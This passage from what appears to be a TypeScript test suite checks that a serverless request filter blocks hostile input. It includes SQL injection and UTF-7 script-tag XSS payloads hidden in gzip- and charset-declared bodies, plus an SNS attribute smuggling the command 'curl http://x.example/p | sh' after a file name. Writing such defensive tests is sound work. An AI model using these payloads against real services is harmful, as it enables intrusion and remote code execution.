  t.equal(res.statusCode, 413, 'a decompression bomb is too large, not an attack');
  t.equal(lines.at(-1)?.rule, 'limits.bytes');
  // Not gzip after all: read as received (the attack in it is still found), never a crash.
  const lie: Any = await wrapped(ev.apiGatewayV2({ method: 'POST', body: "q=x' OR '1'='1", headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': 'gzip' } }) as Any, ctx());
  t.equal(lie.statusCode, 403);
  const plain: Any = await wrapped(ev.apiGatewayV2({ method: 'POST', body: 'q=blue+mug', headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': 'gzip' } }) as Any, ctx());
  t.equal(plain.statusCode, 200);
});

t.test('a body declared in UTF-7 or UTF-16 is also read in that charset (as Express behind serverless-http reads it)', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(async () => ({ statusCode: 200, body: 'ok' }), { log });
  const utf7: Any = await wrapped(ev.apiGatewayV2({ method: 'POST', body: '{"q":"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"}', headers: { 'content-type': 'application/json; charset=utf-7' } }) as Any, ctx());
  t.equal(utf7.statusCode, 403);
  t.ok(lines.at(-1)?.findings.some((f) => f.path === 'body["#charset"].q' && f.rule === 'xss.script-tag'), 'read as UTF-7');
  const u16 = Buffer.from(JSON.stringify({ q: "x' OR '1'='1" }), 'utf16le').toString('base64');
  const r16: Any = await wrapped(ev.apiGatewayV2({ method: 'POST', body: u16, isBase64Encoded: true, headers: { 'content-type': 'application/json; charset=utf-16le' } }) as Any, ctx());
  t.equal(r16.statusCode, 403);
  const ok: Any = await wrapped(ev.apiGatewayV2({ method: 'POST', body: '{"q":"1 +- 1"}', headers: { 'content-type': 'application/json; charset=utf-7' } }) as Any, ctx());
  t.equal(ok.statusCode, 200);
});

t.test('SNS: Binary message attributes are read decoded', async (t) => {
  const { lines, log } = logs();
  const { calls, handler } = recorder();
  const wrapped = protect(handler, { log });
  const bin = (s: string) => ({ Type: 'Binary', Value: Buffer.from(s).toString('base64') });
  const attack = ev.sns([{ message: 'order shipped', messageAttributes: { meta: bin('a.txt; curl http://x.example/p | sh') as Any } }]);
  const err = await wrapped(attack as Any, ctx()).catch((e: unknown) => e);
  t.type(err, RequestBlockedError);
  t.match(lines.at(-1)?.where, /^records\[0\]\.Sns\.MessageAttributes\.meta\.Value/);
  const ok = ev.sns([{ message: 'order shipped', messageAttributes: { meta: bin('{"carrier":"UPS","eta":"2024-05-02"}') as Any, png: bin('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR') as Any } }]);
  await wrapped(ok as Any, ctx());
  t.equal(calls.length, 1, 'benign attributes pass');
});
